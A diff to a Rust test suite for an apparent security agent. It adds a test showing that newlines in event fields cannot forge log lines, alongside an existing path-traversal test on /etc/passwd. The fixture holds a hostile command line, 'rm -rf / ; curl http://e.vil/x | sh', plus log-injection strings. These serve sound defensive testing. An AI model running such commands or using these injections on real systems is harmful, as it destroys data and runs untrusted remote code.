@@ -438,10 +438,61 @@ fn a_target_behind_a_symlinked_directory_is_judged_by_its_real_path() {
         .quarantine(link.join("passwd").to_str().unwrap(), "cat", "5")
         .unwrap_err();
     assert!(err.contains("is under protected path /etc"), "{err}");
-    assert_eq!(std::fs::metadata("/etc/passwd").map(|m| m.permissions()).ok(), before.ok());
+    assert_eq!(
+        std::fs::metadata("/etc/passwd")
+            .map(|m| m.permissions())
+            .ok(),
+        before.ok()
+    );
     // `..` inside the target resolves the same way.
     let dotdot = format!("{}/../../../../../../etc/passwd", dir.path().display());
     let err = q.quarantine(&dotdot, "cat", "5").unwrap_err();
     assert!(err.contains("is under protected path /etc"), "{err}");
     assert!(!dir.path().join("q").exists(), "nothing was copied");
+}
+
+/// Found while writing SECURITY.md: in the human log format, a process name
+/// holding a newline (event content, so attacker-controlled) started a new,
+/// forged log line (`FAKE INFO ...: circuit breaker re-armed`). Every log
+/// line now starts with a timestamp, whatever the event says; JSON logs and
+/// error records stay one JSON object per line.
+#[test]
+fn a_newline_in_event_content_cannot_forge_a_log_line() {
+    let event = serde_json::json!({
+        "output_fields": {
+            "evt.type": "execve",
+            "proc.pid": 4242,
+            "proc.name": "curl\nFAKE INFO scbe_agent: circuit breaker re-armed\r",
+            "proc.cmdline": "rm -rf / ; curl http://e.vil/x | sh\n2026-01-01T00:00:00Z INFO forged",
+            "fd.name": "/tmp/a\nforged",
+        }
+    })
+    .to_string();
+    for format in ["human", "json"] {
+        let mut child = Command::new(AGENT)
+            .args(["--log-format", format, "--log-level", "debug"])
+            .args(["--apply-enforcement", "--enforcement-backends", "journald"])
+            .args(["--journald-socket", "/nonexistent/journal.sock"])
+            .stdin(Stdio::piped())
+            .stdout(Stdio::null())
+            .stderr(Stdio::piped())
+            .spawn()
+            .unwrap();
+        let mut stdin = child.stdin.take().unwrap();
+        writeln!(stdin, "{event}").unwrap();
+        writeln!(stdin, "{{\"broken\": \"x\ny\"}}").unwrap();
+        drop(stdin);
+        let output = child.wait_with_output().unwrap();
+        let stderr = String::from_utf8(output.stderr).unwrap();
+        assert!(stderr.contains("enforcement entry logged here"), "{stderr}");
+        for line in stderr.lines() {
+            let timestamped =
+                line.len() > 20 && line.starts_with("20") && line.as_bytes()[10] == b'T';
+            let json = serde_json::from_str::<serde_json::Value>(line).is_ok();
+            match format {
+                "human" => assert!(timestamped || json, "forged or broken log line: {line:?}"),
+                _ => assert!(json, "not one JSON object: {line:?}"),
+            }
+        }
+    }
 }
